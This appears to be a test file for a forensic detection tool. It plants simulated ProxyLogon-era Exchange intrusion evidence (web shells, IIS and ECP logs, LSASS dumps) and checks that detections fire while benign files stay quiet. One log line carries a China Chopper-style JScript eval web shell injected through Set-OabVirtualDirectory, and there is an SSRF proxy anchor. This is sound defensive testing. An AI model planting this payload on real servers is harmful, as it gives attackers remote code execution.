// runDetections over a small evidence folder with real files and real-shaped logs: web shells (YARA + heuristics),
// IOC hash/path/IP/user-agent matches, baseline, suspicious files, the attack story; every benign twin stays quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { parseHttpProxy } from '../../../electron/ingest/sources/httpproxy.ts';
import { parseIis } from '../../../electron/ingest/sources/iis.ts';
import { parseEcpServer } from '../../../electron/ingest/sources/ecp-server.ts';
import { runDetections } from '../../../electron/detect/index.ts';
import { getWebshells } from '../../../electron/detect/queries.ts';
import type { FindingRow } from '../../../shared/types.ts';
import { addFile, addLog, EP_REL, httpProxyLog, iisLog, newCase } from './helpers.ts';
import type { TestCase } from './helpers.ts';
import { BENIGN_GREETING, BENIGN_LOGON, BROKEN_RULES, CHOPPER, EXEC_SHELL, OAB_DUMP } from './samples.ts';

const ATTACKER = '165.232.154.116';
const FE = `${EP_REL}/FrontEnd/HttpProxy`;


async function plant(tc: TestCase): Promise<void> {
  await addLog(tc, `${EP_REL}/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG`, 'httpproxy-log', parseHttpProxy, httpProxyLog([
    { time: '2021-03-03T01:12:00.000Z', protocol: 'Ecp', stem: '/ecp/y.js', anchor: 'ServerInfo~a]@EXCH01.contoso.local:444/ecp/proxyLogon.ecp#', ip: ATTACKER, status: 241 },
  ]));
  await addLog(tc, `${EP_REL}/Logging/ECP/Server/ECPServer2021030301-1.LOG`, 'ecp-server-log', parseEcpServer, [
    '#Fields: TimeStamp,ServerName,EventId,EventData',
    `2021-03-03T01:21:00.000Z,EXCH01,AdminAction,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""orange""],""unsafe"");}</script>''"`,
  ].join('\r\n') + '\r\n');
  await addLog(tc, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', 'iis-log', parseIis, iisLog([
    `2021-03-03 02:00:00 10.0.0.5 POST /aspnet_client/discover.aspx - 443 - ${ATTACKER} python-requests/2.25.1 - 200 0 0 31`,
    `2021-03-03 02:05:00 10.0.0.5 POST /owa/auth/x8Kd2mQp.aspx - 443 - ${ATTACKER} python-requests/2.25.1 - 200 0 0 15`,
    '2021-03-03 02:06:00 10.0.0.5 GET /owa/auth/logon.aspx replaceCurrent=1 443 - 10.1.1.20 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 5',
    '2021-03-03 02:07:00 10.0.0.5 GET /aspnet_client/greeting.aspx lang=nb 443 - 10.1.1.20 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 5',
  ]));
  addFile(tc, 'C/inetpub/wwwroot/aspnet_client/discover.aspx', CHOPPER, { mtime: '2021-03-03T01:22:00Z' });
  addFile(tc, `${FE}/owa/auth/x8Kd2mQp.aspx`, OAB_DUMP, { mtime: '2021-03-03T01:23:00Z' });
  addFile(tc, `${FE}/ecp/auth/y2.aspx`, EXEC_SHELL, { mtime: '2021-03-03T01:40:00Z' });
  addFile(tc, `${FE}/owa/auth/logon.aspx`, BENIGN_LOGON, { mtime: '2021-02-10T08:00:00Z' });
  addFile(tc, `${FE}/owa/auth/hello.aspx`, BENIGN_GREETING, { mtime: '2021-02-10T08:00:00Z' });
  addFile(tc, `${FE}/ecp/auth/TimeoutLogout.aspx`, '<%@ Page Language="C#" %><html><body>You have been signed out.</body></html>', { mtime: '2021-02-10T08:00:00Z' });
  addFile(tc, 'C/root/lsass.dmp', Buffer.concat([Buffer.from('MDMP'), Buffer.alloc(2044, 1)]), { mtime: '2021-03-03T03:00:00Z' });
  addFile(tc, 'C/Windows/Temp/debug.dmp', Buffer.concat([Buffer.from('MDMP'), Buffer.alloc(60, 2), Buffer.from('C:\\Windows\\System32\\LSASS.EXE', 'utf16le')]), { mtime: '2021-03-03T03:05:00Z' });
  addFile(tc, 'C/Windows/Temp/crash.dmp', Buffer.concat([Buffer.from('MDMP'), Buffer.alloc(60, 2), Buffer.from('c:\\windows\\system32\\inetsrv\\w3wp.exe', 'utf16le')]), { mtime: '2021-03-03T03:05:00Z' });
  addFile(tc, 'C/Windows/Temp/notes.dmp', 'not a minidump', { mtime: '2021-03-03T03:05:00Z' });
  addFile(tc, 'C/ProgramData/comsvcs/x.7z', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), { mtime: '2021-03-03T03:10:00Z' });
  addFile(tc, 'C/Users/admin/Downloads/tools.zip', Buffer.from('PK\u0005\u0006' + '\0'.repeat(18)), { mtime: '2021-03-03T03:10:00Z' });
  addFile(tc, 'C/Users/Public/notes.txt', 'unrelated', { mtime: '2021-03-03T03:10:00Z' });
}

const byCheck = (rows: FindingRow[], check: string): FindingRow[] => rows.filter((r) => r.check === check);

function findings(tc: TestCase): FindingRow[] {
  return (tc.db.prepare('SELECT id, check_id AS "check", severity, title, path, time, sha256, evidence, details FROM findings ORDER BY id').all() as Array<Record<string, unknown>>)
    .map((r) => ({ ...r, evidence: JSON.parse(r.evidence as string), details: r.details ? JSON.parse(r.details as string) : null, time: r.time })) as unknown as FindingRow[];
}

test('runDetections: web shells, suspicious files, IOCs and the story fire; the benign twins do not', async () => {
  const tc = newCase();
  try {
    await plant(tc);
    const iocFile = path.join(tc.dir, 'attacker-iocs.csv');
    fs.writeFileSync(iocFile, `indicator,type\n${ATTACKER},ip\npython-requests/2.25.1,user-agent\n${crypto.createHash('sha256').update(EXEC_SHELL).digest('hex')},sha256\n`);
    const warnings: string[] = [];
    const summary = await runDetections(tc.db, { evidenceRoots: tc.roots, iocFiles: [iocFile], warn: (w) => warnings.push(`${w.file}: ${w.message}`) });
    const rows = findings(tc);

    const shells = byCheck(rows, 'webshell');
    assert.deepEqual(shells.map((s) => s.path).sort(), [
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\ecp\\auth\\y2.aspx',
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x8Kd2mQp.aspx',
      'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx',
    ]);
    const chopper = shells.find((s) => s.path?.endsWith('discover.aspx'));
    assert.equal(chopper?.severity, 'critical');
    assert.deepEqual(chopper?.evidence, [{ file: 'C/inetpub/wwwroot/aspnet_client/discover.aspx' }]);
    assert.equal(chopper?.sha256, crypto.createHash('sha256').update(CHOPPER).digest('hex'));
    assert.ok((chopper?.details?.reasons as string[]).some((r) => r.includes('aspnet_client')));

    assert.deepEqual(byCheck(rows, 'ioc.path').map((r) => [r.path?.split('\\').pop(), r.severity]), [['discover.aspx', 'high'], ['TimeoutLogout.aspx', 'low']],
      'discover.aspx is on the MSTIC list; TimeoutLogout.aspx is too but is also a stock Exchange file: only a low hint without a baseline');
    assert.deepEqual(byCheck(rows, 'ioc.hash').map((r) => r.path), ['C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\ecp\\auth\\y2.aspx']);
    const ip = byCheck(rows, 'ioc.ip');
    assert.equal(ip.length, 1);
    assert.deepEqual(ip[0].evidence, [
      { file: `${EP_REL}/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG`, line: 7 },
      { file: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', line: 5 },
      { file: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', line: 6 },
    ]);
    assert.equal(byCheck(rows, 'ioc.user-agent')[0]?.evidence.length, 3);

    assert.deepEqual(byCheck(rows, 'suspicious.lsass-dump').map((r) => r.path), ['C:\\root\\lsass.dmp', 'C:\\Windows\\Temp\\debug.dmp']);
    assert.deepEqual(byCheck(rows, 'suspicious.archive').map((r) => r.path), ['C:\\ProgramData\\comsvcs\\x.7z']);
    assert.equal(byCheck(rows, 'baseline.unknown-file').length, 0, 'no baseline loaded, no baseline findings');

    const flaggedPaths = new Set(rows.map((r) => r.path));
    for (const benign of ['logon.aspx', 'hello.aspx', 'tools.zip', 'notes.dmp', 'crash.dmp', 'notes.txt']) {
      assert.ok(![...flaggedPaths].some((p) => p?.endsWith('\\' + benign)), `${benign} must not be flagged`);
    }
    assert.ok(!rows.some((r) => r.path?.endsWith('TimeoutLogout.aspx') && r.check !== 'ioc.path'));

    const stories = byCheck(rows, 'story');
    assert.equal(stories.length, 1, 'one attacker, its shells and the shell written while it was active: one intrusion');
    const [story] = stories;
    const steps = story.details?.steps as Array<{ stage: string; kind: string; ts: number; ref: { file: string; line?: number } }>;
    assert.deepEqual(steps.map((x) => [x.stage, x.kind, x.ref.file.split('/').pop(), x.ref.line ?? null]), [
      ['ssrf', 'ssrf', 'HttpProxy_2021030301-1.LOG', 7],
      ['config-change', 'vdir-set', 'ECPServer2021030301-1.LOG', 2],
      ['shell-written', 'shell-write', 'discover.aspx', null],
      ['shell-written', 'shell-write', 'x8Kd2mQp.aspx', null],
      ['shell-written', 'shell-write', 'y2.aspx', null],
      ['shell-used', 'shell-use', 'u_ex210303.log', 5],
      ['shell-used', 'shell-use', 'u_ex210303.log', 6],
      ['follow-on', 'lsass-dump', 'lsass.dmp', null],
      ['follow-on', 'lsass-dump', 'debug.dmp', null],
      ['follow-on', 'archive', 'x.7z', null],
    ], 'in time order, the private client\'s GETs of stock pages left out');
    assert.deepEqual(steps.map((x) => x.ts), [...steps.map((x) => x.ts)].sort((a, b) => a - b));
    assert.deepEqual(story.details?.ips, [ATTACKER]);
    assert.equal((story.details?.mail as { answer: string }).answer, 'not-covered', 'one hour of web logs does not cover an intrusion that runs until 03:10');
    const ws = getWebshells(tc.db);
    const d = ws.find((w) => w.origPath.endsWith('discover.aspx'));
    assert.ok(d);
    // The Chopper one-liner fires the Exchange rule and the behaviour rules (JScript eval, eval of request input).
    assert.deepEqual(d.rules, ['Loupe_AspNet_JScript_Eval', 'Loupe_ASP_Eval_Request', 'Loupe_WebShell_ChinaChopper_Eval']);
    assert.deepEqual(d.attackerIps, [ATTACKER]);
    assert.deepEqual(d.requests.map((r) => [r.method, r.url, r.status, r.ref.line]), [['POST', '/aspnet_client/discover.aspx', 200, 5]]);
    assert.ok(d.reasons.some((r) => r.startsWith('IOC path')), 'the path IOC is merged into the same web shell');
    assert.equal(ws.length, 3, 'the stock-file path hint (TimeoutLogout.aspx) is not a web shell');

    assert.equal(summary.findings, rows.length);
    assert.equal(summary.iocLists, 2);
    const lists = tc.db.prepare('SELECT name, format, count FROM ioc_lists ORDER BY id').all();
    assert.deepEqual(lists, [{ name: 'mstic-exchange-march2021.json', format: 'loupe', count: 237 }, { name: 'attacker-iocs.csv', format: 'csv', count: 3 }]);
    assert.deepEqual(tc.db.prepare('SELECT name, rules FROM rule_packs').all(), [
      { name: 'loupe_aspnet_webshells.yar', rules: 13 }, { name: 'loupe_classic_asp_webshells.yar', rules: 12 }, { name: 'loupe_exchange_webshells.yar', rules: 6 },
      { name: 'Sigma: sigma', rules: 10 },
    ]);
    assert.deepEqual(warnings, []);

    await runDetections(tc.db, { evidenceRoots: tc.roots, iocFiles: [iocFile] });
    assert.equal(findings(tc).length, rows.length, 'a second run replaces the findings, it does not add to them');
    assert.equal((tc.db.prepare('SELECT COUNT(*) AS n FROM ioc_lists').get() as { n: number }).n, 2);
  } finally {
    tc.close();
  }
});

test('baseline: unknown web files are low findings; a stock file at an IOC path with the baseline hash is not malicious', async () => {
  const tc = newCase();
  try {
    const stock = '<%@ Page Language="C#" %><html><body>You have been signed out.</body></html>';
    const stockHash = crypto.createHash('sha256').update(stock).digest('hex').toUpperCase();
    const logonHash = crypto.createHash('sha256').update(BENIGN_LOGON).digest('hex').toUpperCase();
    addFile(tc, `${FE}/ecp/auth/TimeoutLogout.aspx`, stock);
    addFile(tc, `${FE}/owa/auth/logon.aspx`, BENIGN_LOGON);
    addFile(tc, `${FE}/owa/auth/errorFE.aspx`, BENIGN_LOGON.replace('Outlook', 'Error'));
    addFile(tc, `${FE}/owa/auth/new.aspx`, '<%@ Page Language="C#" %>hi');
    const baselineFile = path.join(tc.dir, 'baseline_15.1.2176.9.csv');
    fs.writeFileSync(baselineFile, [
      `${stockHash},15.1.2176.9,\\FrontEnd\\HttpProxy\\ecp\\auth\\TimeoutLogout.aspx`,
      `${logonHash},15.1.2176.9,\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx`,
      `${'A'.repeat(64)},15.1.2176.9,\\FrontEnd\\HttpProxy\\owa\\auth\\errorFE.aspx`,
      'garbage line',
    ].join('\n') + '\n');
    const warnings: Array<{ file: string; line?: number }> = [];
    await runDetections(tc.db, { evidenceRoots: tc.roots, baselines: [baselineFile], warn: (w) => warnings.push(w) });
    const rows = findings(tc);
    assert.deepEqual(byCheck(rows, 'baseline.unknown-file').map((r) => [r.path?.split('\\').pop(), r.severity, (r.details as { reason: string }).reason]), [
      ['errorFE.aspx', 'low', 'hash-mismatch'],
      ['new.aspx', 'low', 'not-in-baseline'],
    ]);
    assert.equal(byCheck(rows, 'ioc.path').length, 0);
    assert.deepEqual(warnings.map((w) => [w.file, w.line]), [[baselineFile, 4]]);
  } finally {
    tc.close();
  }
});

test('a broken analyst rule file becomes a warning naming file and line; detections still run', async () => {
  const tc = newCase();
  try {
    addFile(tc, 'C/inetpub/wwwroot/aspnet_client/s.aspx', CHOPPER);
    const packDir = path.join(tc.dir, 'rules');
    fs.mkdirSync(packDir);
    fs.writeFileSync(path.join(packDir, 'broken.yar'), BROKEN_RULES);
    const warnings: string[] = [];
    await runDetections(tc.db, { evidenceRoots: tc.roots, ruleDirs: [packDir], warn: (w) => warnings.push(`${w.file}:${w.line}: ${w.message}`) });
    assert.equal(warnings.length, 1);
    assert.match(warnings[0], /broken\.yar:13: rule file skipped: .*broken\.yar:13: undefined string "\$b"/);
    assert.equal(byCheck(findings(tc), 'webshell').length, 1);
  } finally {
    tc.close();
  }
});

test('an aborted run writes nothing and keeps the previous findings', async () => {
  const tc = newCase();
  try {
    addFile(tc, 'C/inetpub/wwwroot/aspnet_client/s.aspx', CHOPPER);
    await runDetections(tc.db, { evidenceRoots: tc.roots });
    const before = findings(tc).map((r) => r.check);
    addFile(tc, 'C/root/lsass.dmp', Buffer.from('MDMP'));
    const ac = new AbortController();
    ac.abort();
    const summary = await runDetections(tc.db, { evidenceRoots: tc.roots, signal: ac.signal });
    assert.equal(summary.cancelled, true);
    assert.deepEqual(findings(tc).map((r) => r.check), before);
    assert.ok(before.includes('webshell'));
  } finally {
    tc.close();
  }
});
